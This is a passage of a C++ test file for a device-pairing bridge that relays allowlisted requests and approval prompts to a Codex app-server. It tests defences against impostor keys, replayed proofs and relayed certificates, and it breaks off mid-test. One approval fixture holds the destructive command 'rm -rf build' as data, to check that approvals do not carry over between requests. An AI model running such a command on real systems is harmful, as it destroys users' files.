// The controller against stand-in neighbours: every step of the handshake, pairing, relay and
// approvals observed exactly, and the faults that only a stand-in can force.
#include "bridge/BridgeController.h"

#include "bridge/PairingAttemptLimit.h"
#include "identity/Base64.h"
#include "link/LinkWire.h"
#include "support/ControllerRig.h"
#include "support/QtTestSupport.h"

#include <QSignalSpy>

#include <gtest/gtest.h>

#include <chrono>
#include <regex>

using namespace tarnwick;
using namespace tarnwick::testing;

namespace {

class BridgeControllerTest : public ::testing::Test, public ControllerRig {
protected:
    HelloPayload macHelloSentTo(const PeerHandle& peer) {
        auto hello = lastOfKind(peer, BridgeMessageKind::hello);
        EXPECT_TRUE(hello) << "no hello was sent";
        return hello ? HelloPayload::fromJSON(*hello->body).value() : HelloPayload{};
    }
    // A refusal a device is sent, and an answer it may give.
    static BridgeMessage refusal(std::optional<std::string> id, JSONValue body) {
        return makeMessage(BridgeMessageKind::error, std::move(id), {}, std::move(body));
    }
    static JSONValue decision(JSONValue word) { return JSONObject{{"decision", std::move(word)}}; }
};

} // namespace

// Construction, start and the activity log

TEST_F(BridgeControllerTest, StartsOnceFollowsTheAppServerAndKeepsTheNewestHundredLines) {
    EXPECT_EQ(controller->appServerStatus().toStdString(), "Starting\u2026");
    controller->start();
    controller->start();
    EXPECT_EQ(link->starts, 1);
    EXPECT_EQ(appServer->starts, (std::vector<std::optional<std::string>>{"/usr/local/bin/codex"}));
    EXPECT_EQ(controller->logs(),
              (std::deque<std::string>{
                  "Bridge started. Only paired devices can call the Codex allowlist.",
                  "Starting Codex app-server\u2026"}));
    QSignalSpy ready(controller.get(), &BridgeController::appServerReadyChanged);
    appServer->status("Codex app-server ready", true);
    EXPECT_TRUE(controller->appServerReady());
    EXPECT_EQ(controller->appServerStatus().toStdString(), "Codex app-server ready");
    EXPECT_EQ(ready.count(), 1);
    // A restart is logged above the status it brings, and the devices stay.
    pairDevice("Phone");
    controller->restartAppServer();
    EXPECT_EQ(appServer->starts.size(), 2u);
    EXPECT_FALSE(controller->appServerReady());
    EXPECT_EQ(controller->logs()[0], "Restarting Codex app-server.");
    EXPECT_EQ(controller->logs()[1], "Starting Codex app-server\u2026");
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
    appServer->executable.reset();
    controller->restartAppServer();
    EXPECT_EQ(appServer->starts.back(), std::nullopt);
    EXPECT_EQ(controller->appServerStatus().toStdString(), controller->logs()[1]);
    for (int i = 0; i < 150; ++i) {
        appServer->status("line " + std::to_string(i), false);
    }
    ASSERT_EQ(controller->logs().size(), 100u);
    EXPECT_EQ(controller->logs().front(), "line 149");
    EXPECT_EQ(controller->logs().back(), "line 50");
    QSignalSpy changes(controller.get(), &BridgeController::logsChanged);
    appServer->log("");
    EXPECT_EQ(changes.count(), 0);
}

TEST_F(BridgeControllerTest, WithoutIdentityShowsWhyAndRefusesToPair) {
    make({{}, false});
    EXPECT_EQ(controller->appServerStatus().toStdString(),
              "Secure identity unavailable: The keyring is locked.");
    ASSERT_EQ(controller->logs().size(), 1u);
    EXPECT_EQ(controller->logs()[0], "Keychain identity creation failed. Pairing is disabled until "
                                     "the keyring can keep this computer's signing key.");
    auto& device = connectDevice("Phone");
    EXPECT_EQ(controller->logs()[0], "Cannot pair: secure Keychain identity is unavailable.");
    ask(device.peer);
    EXPECT_TRUE(controller->pairingRequests().empty());
    EXPECT_TRUE(link->sentTo(device.peer).empty());
}

TEST_F(BridgeControllerTest, TrustedPeersAreSortedCaseSensitively) {
    make({storedDevices({"bob", "Zed", "Ann"})});
    std::vector<std::string> names;
    for (const auto& peer : controller->trustedPeers()) {
        names.push_back(peer.displayName);
    }
    EXPECT_EQ(names, (std::vector<std::string>{"Ann", "Zed", "bob"}));
}

// Intake

// Each gives one log line, bounded whatever the device sent, answers nothing and stores nothing:
// the connection cannot ask to pair after it. The texts are the ones people are promised.
TEST_F(BridgeControllerTest, MalformedBytesAndFailedHellosGiveOneBoundedLineAndStoreNothing) {
    TestSigner signer;
    HelloPayload forged = signer.hello("Phone");
    forged.displayName = "Someone else";
    HelloPayload huge = signer.hello(std::string(100000, 'A'));
    huge.signature = "AAAA";
    const std::string verify = "Handshake signature did not verify.";
    const auto helloBytes = [](std::optional<JSONValue> body) {
        return *makeMessage(BridgeMessageKind::hello, {}, {}, std::move(body)).encode();
    };
    const struct {
        const char* what;
        std::string bytes;
        std::optional<std::string> description; // none: the decoder's own
    } cases[] = {
        {"not JSON", "not json", std::nullopt},
        {"a forged name", helloBytes(forged.toJSON()), verify},
        {"a huge name", helloBytes(huge.toJSON()), verify},
        {"no body", helloBytes({}), "The device's hello was empty."},
        {"not a hello", helloBytes(JSONValue(JSONObject{{"deviceID", 1}})), std::nullopt},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        PeerHandle peer = link->connect("Phone");
        link->sent.clear();
        const std::size_t linesBefore = controller->logs().size();
        link->deliver(peer, std::string_view(c.bytes));
        ASSERT_EQ(controller->logs().size(), linesBefore + 1);
        const std::string& line = controller->logs().front();
        EXPECT_EQ(line.rfind("Rejected malformed message from Phone: ", 0), 0u);
        if (c.description) {
            EXPECT_EQ(line, "Rejected malformed message from Phone: " + *c.description);
        }
        EXPECT_LT(line.size(), 400u);
        ask(peer);
        EXPECT_TRUE(controller->pairingRequests().empty());
        EXPECT_TRUE(link->sentTo(peer).empty());
    }
}

// Handshake and pairing

TEST_F(BridgeControllerTest, PairingShowsTheCodeBothEndsComputeAndAcceptAuthorises) {
    auto& device = connectDevice("Phone");
    HelloPayload macHello = macHelloSentTo(device.peer);
    EXPECT_TRUE(macHello.verify());
    EXPECT_EQ(macHello.displayName, "Studio");
    ask(device.peer);
    ASSERT_EQ(controller->pairingRequests().size(), 1u);
    const PairingRequest& request = controller->pairingRequests()[0];
    EXPECT_EQ(request.peer, device.peer);
    EXPECT_EQ(request.code, pairingCode(device.hello, macHello));
    EXPECT_EQ(controller->logs().front(),
              "Pairing requested by Phone. Compare code " + request.code + ".");
    ASSERT_TRUE(decideNewest(PairingDecision::accept));
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
    EXPECT_EQ(controller->logs().front(), "Paired Phone.");
    ASSERT_EQ(controller->trustedPeers().size(), 1u);
    EXPECT_EQ(controller->trustedPeers()[0].publicKey, device.hello.publicKey);
    EXPECT_EQ(lastSentTo(device.peer),
              makeMessage(BridgeMessageKind::pairingAccepted, {}, {}, macHello.toJSON()));
}

TEST_F(BridgeControllerTest, EachConnectionAsksOnceAtATimeAndEachRequestHasItsOwnSerial) {
    // Asking before the hello: DeviceHandshakeTest; a request going with its connection:
    // AStrangerWhoProvesItsOwnKeyUnderAShownNameLeavesThatCardAlone.
    auto& early = requestPairing("Early");
    requestPairing("Other");
    ASSERT_EQ(controller->pairingRequests().size(), 2u);
    const PairingRequest first = controller->pairingRequests()[0];
    const PairingRequest second = controller->pairingRequests()[1];
    EXPECT_LT(first.serial, second.serial);
    // Asking again replaces the connection's own request, under a new serial, at the end.
    ask(early.peer);
    ASSERT_EQ(controller->pairingRequests().size(), 2u);
    EXPECT_EQ(controller->pairingRequests()[0].serial, second.serial);
    EXPECT_EQ(controller->pairingRequests()[1].peer, early.peer);
    EXPECT_GT(controller->pairingRequests()[1].serial, second.serial);
}

// What a window, a terminal or the control command decides on: the serial and the code it
// showed. Anything else does nothing, whatever is waiting now (a request gone, or replaced by
// another of its name: FrontEndsTest).
TEST_F(BridgeControllerTest, ADecisionActsOnlyOnTheSerialAndCodeThePersonWasShown) {
    enum class Shown { asIs, otherCode, nextSerial };
    const struct {
        const char* what;
        Shown shown;
        PairingDecision decision;
        bool decided;
    } cases[] = {
        {"pair", Shown::asIs, PairingDecision::accept, true},
        {"reject", Shown::asIs, PairingDecision::reject, true},
        {"another code", Shown::otherCode, PairingDecision::accept, false},
        {"a serial not shown", Shown::nextSerial, PairingDecision::accept, false},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.what);
        make();
        auto& device = requestPairing("Phone");
        std::uint64_t serial = controller->pairingRequests()[0].serial;
        std::string code = controller->pairingRequests()[0].code;
        if (c.shown == Shown::otherCode) {
            code = code == "000000" ? "000001" : "000000";
        } else if (c.shown == Shown::nextSerial) {
            ++serial;
        }
        const auto waiting = controller->pairingRequests();
        EXPECT_EQ(controller->decide(serial, code, c.decision), c.decided);
        if (!c.decided) {
            EXPECT_EQ(controller->pairingRequests().size(), waiting.size());
            EXPECT_TRUE(controller->trustedPeers().empty());
            EXPECT_FALSE(lastOfKind(device.peer, BridgeMessageKind::pairingAccepted));
            EXPECT_FALSE(lastOfKind(device.peer, BridgeMessageKind::pairingRejected));
            continue;
        }
        EXPECT_TRUE(controller->pairingRequests().empty());
        const bool paired = c.decision == PairingDecision::accept;
        EXPECT_EQ(accepted(device), paired);
        EXPECT_EQ(rejected(device), !paired);
        EXPECT_EQ(controller->authorizedPeerNames().contains("Phone"), paired);
        EXPECT_EQ(controller->logs().front(),
                  paired ? "Paired Phone." : "Rejected pairing from Phone.");
        // The same serial and code decide nothing twice; a rejected device may ask again.
        EXPECT_FALSE(controller->decide(serial, code, c.decision));
        ask(device.peer);
        EXPECT_EQ(controller->pairingRequests().size(), paired ? 0u : 1u);
    }
}

TEST_F(BridgeControllerTest, AKnownDeviceIDWithAnotherKeyGetsNothing) {
    auto& paired = pairDevice("Phone");
    link->disconnect(paired.peer);
    const std::size_t linesBefore = controller->logs().size();
    // Same device ID, its own key: the hello verifies, but the stored key differs.
    TestSigner impostor(paired.signer.deviceID());
    PeerHandle peer = link->connect("Phone");
    hello(peer, impostor.hello("Phone"));
    ask(peer);
    sendRequest(peer, "r", "thread/list");
    EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
    EXPECT_TRUE(controller->pairingRequests().empty());
    EXPECT_EQ(controller->logs().size(), linesBefore);
    EXPECT_TRUE(appServer->requests.empty());
    EXPECT_FALSE(lastOfKind(peer, BridgeMessageKind::pairingAccepted));
}

TEST_F(BridgeControllerTest, ForgetClosesEverySessionOfTheDeviceAndItCanPairAgain) {
    auto& device = pairDevice("Phone");
    pairDevice("Tablet");
    // The same device beside itself under another name, as a watcher beside a call.
    const PeerHandle watcher = link->connect("Phone watch");
    hello(watcher, device.signer.hello("Phone watch"));
    ASSERT_TRUE(controller->authorizedPeerNames().contains("Phone watch"));
    // Another trusted device's valid hello on the phone's session does not shield it.
    TestSigner other;
    trustStore->peers[other.deviceID()] = {other.deviceID(), "Other", other.hello("x").publicKey,
                                           0};
    hello(device.peer, other.hello("Other"));
    const std::size_t closedBefore = link->closedByOwner.size();
    controller->forget(*trustStore->lookupPeer(device.signer.deviceID()));
    EXPECT_EQ(controller->logs().front(), "Forgot Phone.");
    // Both of its sessions hear why at once; the other device's stays.
    EXPECT_EQ(
        std::set<PeerHandle>(link->closedByOwner.begin() + closedBefore, link->closedByOwner.end()),
        (std::set<PeerHandle>{device.peer, watcher}));
    EXPECT_EQ(
        std::vector<SessionClose>(link->closeCodes.begin() + closedBefore, link->closeCodes.end()),
        (std::vector<SessionClose>{SessionClose::forgotten, SessionClose::forgotten}));
    EXPECT_EQ(controller->authorizedPeerNames(), (std::set<std::string>{"Tablet"}));
    sendRequest(device.peer, "r1", "thread/list");
    EXPECT_TRUE(appServer->requests.empty());
    requestPairing("Phone");
    ASSERT_EQ(controller->pairingRequests().size(), 1u);
    ASSERT_TRUE(decideNewest(PairingDecision::accept));
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
}

TEST_F(BridgeControllerTest, KeychainAndSendFailuresAreLoggedAndChangeNothingShown) {
    requestPairing("Phone");
    trustStore->failWrites = true;
    ASSERT_TRUE(decideNewest(PairingDecision::accept));
    EXPECT_EQ(controller->logs().front(), "Pairing failed: Keychain error -25299");
    EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
    EXPECT_TRUE(controller->trustedPeers().empty());
    EXPECT_EQ(controller->pairingRequests().size(), 1u);
    trustStore->failWrites = false;
    ASSERT_TRUE(decideNewest(PairingDecision::accept));
    trustStore->failWrites = true;
    controller->forget(controller->trustedPeers()[0]);
    EXPECT_EQ(controller->logs().front(), "Could not forget device: Keychain error -25299");
    EXPECT_EQ(controller->trustedPeers().size(), 1u);
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
    // A send that fails is reported where it matters.
    trustStore->failWrites = false;
    identity->fail = true;
    link->connect("Laptop");
    EXPECT_EQ(controller->logs().front(),
              "Could not start secure handshake: The signing key is not usable.");
    identity->fail = false;
    auto& device = requestPairing("Tablet");
    link->failingPeers.insert(device.peer);
    ASSERT_TRUE(decideNewest(PairingDecision::accept));
    EXPECT_EQ(controller->logs().front(), "Pairing failed: The peer is not connected.");
    EXPECT_EQ(controller->pairingRequests().size(), 1u); // Pair may be pressed again
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Tablet"));
}

// Request relay

// Only the allowlist, spelled exactly, reaches Codex: with the device's params, and answered
// under the device's own ids, or logged when it has left. A stranger's requests and Codex's
// errors: DeviceHandshakeTest.
TEST_F(BridgeControllerTest, RelaysOnlyTheAllowlistUnderTheDevicesOwnIDs) {
    auto& device = pairDevice("Phone");
    const BridgeMessage refused[] = {
        makeMessage(BridgeMessageKind::request, "a", "Thread/List"),
        makeMessage(BridgeMessageKind::request, "b", "thread/list "),
        makeMessage(BridgeMessageKind::request, "c", "config/read"),
        makeMessage(BridgeMessageKind::request, "d"),
        makeMessage(BridgeMessageKind::request, {}, "thread/list"),
    };
    for (const auto& request : refused) {
        link->deliver(device.peer, request);
        EXPECT_EQ(lastSentTo(device.peer),
                  refusal(request.id, "That method is not available through Tarnwick."));
    }
    EXPECT_TRUE(appServer->requests.empty());
    for (const char* method :
         {"thread/list", "thread/read", "thread/start", "thread/resume", "turn/start", "turn/steer",
          "turn/interrupt", "model/list", "account/read"}) {
        EXPECT_TRUE(RequestRelay::isAllowlisted(method)) << method;
    }
    sendRequest(device.peer, "a", "model/list");
    sendRequest(device.peer, "b", "thread/read", JSONValue(JSONObject{{"threadId", "/tmp"}}));
    ASSERT_EQ(appServer->requests.size(), 2u);
    EXPECT_EQ(appServer->requests[0].params, JSONValue(JSONObject{}));
    EXPECT_EQ(appServer->requests[1].params, JSONValue(JSONObject{{"threadId", "/tmp"}}));
    appServer->answer(1, JSONValue(JSONArray{1, 2}));
    EXPECT_EQ(lastSentTo(device.peer),
              makeMessage(BridgeMessageKind::response, "b", {}, JSONValue(JSONArray{1, 2})));
    link->disconnect(device.peer);
    appServer->answer(0, JSONValue(JSONObject{}));
    EXPECT_EQ(controller->logs().front(), "Could not reply to Phone: The peer is not connected.");
}

// Events go to every authorised device, in the link's order. A device closes a session whose
// message is over the block bound, and would ask again on reconnecting: such an event is left
// out (such an answer: DeviceHandshakeTest's refusals).
TEST_F(BridgeControllerTest, EventsGoToAuthorisedDevicesInLinkOrderUnlessTooLarge) {
    auto& first = pairDevice("First");
    auto& stranger = connectDevice("Stranger");
    auto& second = pairDevice("Second");
    link->sent.clear();
    appServer->notify("thread/started", JSONValue(JSONObject{{"thread", 1}}));
    ASSERT_EQ(link->sent.size(), 2u);
    EXPECT_EQ(link->sent[0].peer, first.peer);
    EXPECT_EQ(link->sent[1].peer, second.peer);
    EXPECT_EQ(link->sent[0].message, makeMessage(BridgeMessageKind::event, {}, "thread/started",
                                                 JSONValue(JSONObject{{"thread", 1}})));
    EXPECT_TRUE(link->sentTo(stranger.peer).empty());
    link->sent.clear();
    appServer->notify("item/completed",
                      JSONObject{{"text", std::string(linkwire::maxBlockSize, 'x')}});
    EXPECT_TRUE(link->sent.empty());
    EXPECT_EQ(controller->logs().front(), "Did not pass item/completed on to the devices: it is "
                                          "17 MiB, and a device takes at most 16 MiB.");
    // Just under the bound still goes.
    const JSONValue large(JSONObject{{"text", std::string(linkwire::maxBlockSize - 256, 'x')}});
    appServer->notify("item/completed", large);
    EXPECT_EQ(link->sent.size(), 2u);
}

// A device that falls behind holds Codex back until it catches up or leaves; one that does not
// catch up in time is no longer waited for, so a stalled device cannot stop the others for long.
TEST_F(BridgeControllerTest, ADeviceThatFallsBehindHoldsTheAppServerBackForAWhile) {
    auto& slow = pairDevice("Slow");
    auto& quick = pairDevice("Quick");
    const JSONValue params(JSONObject{{"delta", "x"}});
    link->waiting[quick.peer] = RequestRelay::holdAbove;
    appServer->notify("item/delta", params);
    EXPECT_FALSE(appServer->held) << "at the mark is not behind";
    link->waiting[slow.peer] = RequestRelay::holdAbove + 1;
    appServer->notify("item/delta", params);
    EXPECT_TRUE(appServer->held);
    link->ease(quick.peer);
    EXPECT_TRUE(appServer->held) << "another device is still behind";
    link->ease(slow.peer);
    EXPECT_FALSE(appServer->held);
    // An answer to a device that is behind holds as well; its leaving releases.
    sendRequest(slow.peer, "r", "thread/read");
    link->waiting[slow.peer] = 3 * RequestRelay::holdAbove;
    appServer->answer(0, params);
    EXPECT_TRUE(appServer->held);
    link->disconnect(slow.peer);
    EXPECT_FALSE(appServer->held);
    // A device that does not catch up is let go after the limit, and waited for again once it
    // has caught up.
    link->waiting[quick.peer] = 3 * RequestRelay::holdAbove;
    appServer->notify("item/delta", params);
    EXPECT_TRUE(appServer->held);
    EXPECT_TRUE(waitUntil([&] { return !appServer->held; }));
    appServer->notify("item/delta", params);
    EXPECT_FALSE(appServer->held) << "not waited for while it is behind";
    link->ease(quick.peer);
    link->waiting[quick.peer] = 3 * RequestRelay::holdAbove;
    appServer->notify("item/delta", params);
    EXPECT_TRUE(appServer->held);
}

// Approvals

TEST_F(BridgeControllerTest, VersionOneApprovalsGoToTheFirstAuthorisedDeviceOnly) {
    auto& stranger = connectDevice("Stranger");
    auto& first = pairDevice("First");
    auto& second = pairDevice("Second");
    link->sent.clear();
    JSONValue params = JSONObject{{"command", "ls"}};
    appServer->ask(JSONValue(12), "item/fileChange/requestApproval", params);
    ASSERT_EQ(link->sent.size(), 1u);
    EXPECT_EQ(link->sent[0].peer, first.peer);
    const BridgeMessage& question = link->sent[0].message;
    EXPECT_EQ(question.kind, BridgeMessageKind::serverRequest);
    EXPECT_EQ(question.method, "item/fileChange/requestApproval");
    EXPECT_EQ(question.body, params);
    ASSERT_TRUE(question.id);
    EXPECT_TRUE(std::regex_match(
        *question.id, std::regex("[0-9A-F]{8}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{4}-[0-9A-F]{12}")));
    // Unpaired devices, unknown ids and missing ids are ignored; any paired device may answer.
    sendAnswer(stranger.peer, question.id, decision("accept"));
    sendAnswer(second.peer, "unknown");
    sendAnswer(second.peer, {});
    EXPECT_TRUE(appServer->replies.empty());
    // Words Codex did not offer: OnlyADecisionCodexOfferedReachesCodex.
    const JSONValue cancel = decision("cancel");
    sendAnswer(second.peer, question.id, cancel);
    ASSERT_EQ(appServer->replies.size(), 1u);
    EXPECT_EQ(appServer->replies[0].id, JSONValue(12));
    EXPECT_EQ(appServer->replies[0].result, cancel);
    sendAnswer(first.peer, question.id, cancel);
    EXPECT_EQ(appServer->replies.size(), 1u);
    // Nothing a version-1 device did not see before: no note of how the question ended.
    for (const auto& sent : link->sent) {
        EXPECT_NE(sent.message.kind, BridgeMessageKind::serverRequestSettled);
    }
    // Without a wait limit, a question no device can be sent is declined at once (with no
    // device at all: ApprovalsTest's wait test); a question the bridge cannot ask is refused.
    controller->approvals().setWaitLimit(std::chrono::milliseconds(0));
    link->failingPeers = {first.peer, second.peer};
    appServer->ask(JSONValue("x"), "item/commandExecution/requestApproval", JSONObject{});
    ASSERT_EQ(appServer->replies.size(), 2u);
    EXPECT_EQ(appServer->replies[1].result, decision("decline"));
    EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
    appServer->ask(JSONValue(3), "item/tool/requestUserInput", JSONObject{});
    ASSERT_EQ(appServer->replies.size(), 3u);
    EXPECT_EQ(appServer->replies[2].errorMessage,
              "Tarnwick Bridge does not implement item/tool/requestUserInput.");
}

// A trusted device is authorised by its hello alone, and its question waits for it.
TEST_F(BridgeControllerTest, AQuestionOutlivesADisconnectAndAnEmptyAnswerDeclines) {
    auto& device = pairDevice("Phone");
    link->sent.clear();
    appServer->ask(JSONValue(5), "item/commandExecution/requestApproval", JSONObject{});
    std::string questionID = *link->sent.at(0).message.id;
    link->disconnect(device.peer);
    EXPECT_FALSE(controller->authorizedPeerNames().contains("Phone"));
    EXPECT_EQ(controller->pendingServerRequestCount(), 1u);
    PeerHandle again = link->connect("Phone");
    HelloPayload macHello = macHelloSentTo(again);
    hello(again, device.signer.hello("Phone"));
    EXPECT_TRUE(controller->authorizedPeerNames().contains("Phone"));
    EXPECT_EQ(controller->logs().front(), "Authenticated Phone.");
    EXPECT_TRUE(controller->pairingRequests().empty());
    // Asked once, as version 1 always was, and not again: it keeps the id.
    ASSERT_TRUE(flushMainQueue());
    EXPECT_EQ(lastSentTo(again),
              makeMessage(BridgeMessageKind::pairingAccepted, {}, {}, macHello.toJSON()));
    sendAnswer(again, questionID);
    ASSERT_EQ(appServer->replies.size(), 1u);
    EXPECT_EQ(appServer->replies[0].id, JSONValue(5));
    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
}

TEST_F(BridgeControllerTest, ARestartEndsTheQuestionsOfTheStoppedProcess) {
    auto& device = pairDevice("Phone");
    controller->start();
    link->sent.clear();
    appServer->ask(JSONValue(0), "item/commandExecution/requestApproval",
                   JSONObject{{"command", "ls"}});
    const std::string before = *link->sent.at(0).message.id;
    controller->restartAppServer();
    EXPECT_EQ(controller->pendingServerRequestCount(), 0u);
    // The new process asks with the same id; only the answer to its own question reaches it.
    appServer->ask(JSONValue(0), "item/commandExecution/requestApproval",
                   JSONObject{{"command", "rm -rf build"}});
    const std::string after = *link->sent.at(1).message.id;
    sendAnswer(device.peer, before, decision("accept"));
    EXPECT_TRUE(appServer->replies.empty()) << "an answer to ls must not approve rm -rf build";
    sendAnswer(device.peer, after, decision("decline"));
    ASSERT_EQ(appServer->replies.size(), 1u);
    EXPECT_EQ(appServer->replies[0].id, JSONValue(0));
    EXPECT_EQ(appServer->replies[0].result, decision("decline"));
}

// Handshake version 2, and the attacks each of its steps stops

namespace {

class HandshakeV2Test : public BridgeControllerTest {
protected:
    HandshakeV2Test() { link->fingerprint = std::string(64, 'c'); }
    const BridgeMessage acceptedV2 = makeMessage(BridgeMessageKind::pairingAccepted, {}, {},
                                                 JSONValue(JSONObject{{"protocol", 2}}));
    // What a version-2 device is sent on being accepted: the acceptance, then its ceiling.
    std::vector<BridgeMessage> welcome() const {
        return {acceptedV2, makeMessage(BridgeMessageKind::ceiling, {}, {},
                                        ceilings->book.everyDevice.toJSON())};
    }
    std::vector<BridgeMessage> lastTwoSentTo(const PeerHandle& peer) {
        auto sent = link->sentTo(peer);
        return sent.size() < 2 ? sent : std::vector<BridgeMessage>(sent.end() - 2, sent.end());
    }
};

} // namespace

// A stranger on the network takes the name of a device whose card the person is comparing, and
// proves a key of its own: it gets a card of its own, and the person's card keeps its
// connection, its code and its serial; only a decision on that card pairs that device.
TEST_F(HandshakeV2Test, AStrangerWhoProvesItsOwnKeyUnderAShownNameLeavesThatCardAlone) {
    for (const int version : {1, 2}) {
        SCOPED_TRACE(version);
        make();
        link->fingerprint = std::string(64, 'c');
        const auto makeRequest = [&](const std::string& name) {
            if (version == 1) {
                return requestPairing(name).peer;
            }
            auto device = connectV2(name);
            requestPairing(*device);
            return device->peer;
        };
        const PeerHandle phone = makeRequest("Phone");
        const PairingRequest shown = controller->pairingRequests().at(0);
        const PeerHandle stranger = makeRequest("Phone");
        ASSERT_EQ(controller->pairingRequests().size(), 2u);
        const PairingRequest& kept = controller->pairingRequests()[0];
        EXPECT_EQ(kept.peer, phone);
        EXPECT_EQ(kept.serial, shown.serial);
        EXPECT_EQ(kept.code, shown.code);
        EXPECT_NE(controller->pairingRequests()[1].code, shown.code);
        // The stranger leaving takes only its own card.
        link->disconnect(stranger);
        ASSERT_EQ(controller->pairingRequests().size(), 1u);
        EXPECT_TRUE(controller->decide(shown.serial, shown.code, PairingDecision::accept));
        EXPECT_TRUE(lastOfKind(phone, BridgeMessageKind::pairingAccepted));
        EXPECT_EQ(trustStore->peers.size(), 1u);
    }
}

TEST_F(HandshakeV2Test, PairsByCommitAndRevealAndAuthenticatesByProofOnReconnect) {
    for (std::optional<std::string> seen :
         {std::optional<std::string>(), std::optional<std::string>("")}) {
        const std::string name = seen ? "Browser" : "Phone";
        auto device = connectV2(name, seen);
        EXPECT_EQ(device->bridge.certificate, link->fingerprint);
        EXPECT_EQ(device->bridge.deviceID, identity->signer.deviceID());
        const std::string code = requestPairing(*device);
        ASSERT_EQ(controller->pairingRequests().size(), 1u);
        EXPECT_EQ(controller->pairingRequests()[0].code, code);
        EXPECT_EQ(controller->logs().front(),
                  "Pairing requested by " + name + ". Compare code " + code + ".");
        EXPECT_TRUE(decideNewest(PairingDecision::accept));
        EXPECT_EQ(lastTwoSentTo(device->peer), welcome());
        EXPECT_EQ(trustStore->peers.at(device->signer.deviceID()).protocolVersion, 2);
        // The next connection proves itself and needs nobody.
        link->disconnect(device->peer);
        auto again = connectV2(name, seen, std::move(device));
        EXPECT_EQ(lastTwoSentTo(again->peer), welcome());
        EXPECT_EQ(controller->logs().front(), "Authenticated " + name + ".");
    }
    EXPECT_EQ(controller->certificateFingerprint().toStdString(),
              "CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:CC:"
              "CC:CC:CC:CC:CC");
}

TEST_F(HandshakeV2Test, TheCeilingHoldsEveryDeviceAndEachLearnsItsOwn) {
    auto phone = pairV2("Phone");
    // A session of either version asking for more than the ceiling: DeviceHandshakeTest's
    // refusals.
    auto& tablet = pairDevice("Tablet");
    // The phone is given a lower ceiling: it learns it at once, the version-1 tablet learns
    // nothing new on its wire, and each is held to its own.
    CeilingBook book = controller->ceilings();
    book.devices[phone->signer.deviceID()] =
        DeviceCeiling{SandboxLevel::readOnly, false, false, {home.path().string()}};
    const std::size_t sentToTablet = link->sentTo(tablet.peer).size();
    ASSERT_TRUE(controller->setCeilings(book));
    EXPECT_EQ(ceilings->book, book);
    EXPECT_EQ(lastSentTo(phone->peer),
              makeMessage(BridgeMessageKind::ceiling, {}, {},
                          book.devices[phone->signer.deviceID()].toJSON()));
    EXPECT_EQ(link->sentTo(tablet.peer).size(), sentToTablet);
    const JSONValue writing(JSONObject{{"sandbox", "workspace-write"}});
    sendRequest(phone->peer, "p", "thread/start", writing);
    sendRequest(tablet.peer, "t", "thread/start", writing);
    EXPECT_EQ(lastSentTo(phone->peer)->kind, BridgeMessageKind::error);
    ASSERT_EQ(appServer->requests.size(), 1u);
    EXPECT_EQ(*appServer->requests[0].params.member("sandbox"), JSONValue("workspace-write"));
    EXPECT_EQ(*appServer->requests[0].params.member("approvalPolicy"), JSONValue("on-request"));
    // A ceiling that cannot be kept does not hold either.
    ceilings->failSave = true;
    book.devices.clear();
    EXPECT_FALSE(controller->setCeilings(book));
    EXPECT_EQ(controller->ceilings().devices.size(), 1u);
}

TEST_F(BridgeControllerTest, ATurnRunsWithWhatItsThreadWasGivenOnlyWithinTheCeiling) {
    auto& phone = pairDevice("Phone");
    const std::string work = home.path().string() + "/work";
    std::filesystem::create_directory(work);
    auto ask = [&](const char* id, const char* method, JSONObject params) {
        sendRequest(phone.peer, id, method, JSONValue(params));
        return lastSentTo(phone.peer);
    };
    // A thread made on this computer in "/" with everything open, resumed as it is.
    ask("r", "thread/resume", {{"threadId", "T"}});
    ASSERT_EQ(appServer->requests.size(), 1u);
    appServer->answer(0, JSONValue(JSONObject{{"thread", JSONObject{{"id", "T"}}},
                                              {"cwd", "/"},
                                              {"sandbox", JSONObject{{"type", "dangerFullAccess"}}},
                                              {"approvalPolicy", "never"}}));
    const JSONObject bare{{"threadId", "T"}, {"input", JSONArray{}}};
    JSONObject steer = bare;
    steer.set("expectedTurnId", "U");
    EXPECT_EQ(ask("t", "turn/start", bare)->kind, BridgeMessageKind::error);
    EXPECT_EQ(ask("s", "turn/steer", steer)->kind, BridgeMessageKind::error);
    EXPECT_EQ(appServer->requests.size(), 1u);
    // A turn that says where and how: within the ceiling, and its thread is within it after.
    JSONObject within = bare;
    within.set("cwd", work);
    within.set("approvalPolicy", "on-request");
    within.set("sandboxPolicy", JSONObject{{"type", "workspaceWrite"}});
    JSONObject halfway = within;
    halfway.erase("cwd");
    EXPECT_EQ(ask("h", "turn/start", halfway)->kind, BridgeMessageKind::error);
    ask("w", "turn/start", within);
    ASSERT_EQ(appServer->requests.size(), 2u);
    appServer->answer(1, JSONValue(JSONObject{{"turn", JSONObject{{"id", "U"}}}}));
    ask("b", "turn/start", bare);
    ASSERT_EQ(appServer->requests.size(), 3u);
    EXPECT_EQ(appServer->requests[2].params, JSONValue(bare));
}

TEST_F(HandshakeV2Test, AProofCapturedOnOneConnectionIsWorthlessOnAnother) {
    auto device = pairV2("Phone");
    // Someone replays the device's offer and proof on a connection of their own.
    PeerHandle replay = link->connect("Phone", 2);
    hello(replay, device->offer);
    sendProof(replay, device->proof);
    EXPECT_EQ(controller->logs().front(),
              "Rejected malformed message from Phone: Handshake signature did not verify.");
    sendRequest(replay, "x", "thread/list");
    EXPECT_EQ(lastSentTo(replay),
              refusal("x", ErrorBody::make(ErrorCode::notPaired, "Pair this device first.", 2)));
    EXPECT_TRUE(appServer->requests.empty());
}

TEST_F(HandshakeV2Test, ARelayedCertificateOrAGrindingDeviceGetsNothing) {
    // A native device that was shown another certificate: a TLS relay is in between.
    auto relayed = connectV2("Relayed", std::string(64, 'e'));
    EXPECT_EQ(controller->logs().front(),
              "Rejected malformed message from Relayed: Handshake names another certificate.");
